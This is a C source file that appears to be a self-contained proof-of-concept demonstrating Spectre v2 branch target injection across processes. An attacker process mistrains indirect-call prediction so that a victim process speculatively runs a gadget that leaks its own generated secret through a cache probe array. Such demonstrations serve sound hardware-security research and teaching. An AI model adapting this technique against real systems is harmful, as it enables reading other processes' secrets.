/*
 * Spectre v2 across processes: the branch target buffer does not know whose entries it holds.
 *
 * The victim serves requests by an indirect call through a table of the program that both processes have mapped, as
 * programs share a library. The attacker executes the call at the same address with a table of its own that leads to
 * gadget(). Then it flushes the victim's table and sends a request: the victim's call is predicted to gadget() too.
 */
#include "pair.h"

typedef void handler(const u8 *text);

static const char ABOUT[] = "process 2 only: it made the secret after the fork";

static u8 open_text[LINE] __attribute__((aligned(LINE)));
static u8 secret[MOST] __attribute__((aligned(LINE)));

NOINLINE static void gadget(const u8 *text)
{
    touch(probe + *text * STRIDE);
}

NOINLINE static void polite(const u8 *text)
{
    (void)text;
}

/* Read-only data: one frame for both processes, so that either can flush its line. */
static handler *const victims_table[8] __attribute__((aligned(LINE))) = {polite};
static handler *attackers_table[8] __attribute__((aligned(LINE))) = {gadget};

NOINLINE static void dispatch(handler *const *table, const u8 *text)
{
    SAME_HISTORY();
    (*table)(text);
}

static void victim_prepare(u64 bytes)
{
    make_secret(secret, bytes);
}

static void serve(u64 index)
{
    touch(secret + index); /* it works with the secret */
    dispatch(victims_table, secret + index);
}

static int prepare(u64 bytes)
{
    ignored[open_text[0]] = 1;
    return share_probe() && start_victim(bytes);
}

static void attempt(u64 index)
{
    for (int more = trainings(); more > 0; more--) {
        flush(attackers_table);
        fence();
        dispatch(attackers_table, open_text);
    }
    flush_probe();
    flush(victims_table);
    fence();
    ask_victim(index);
}
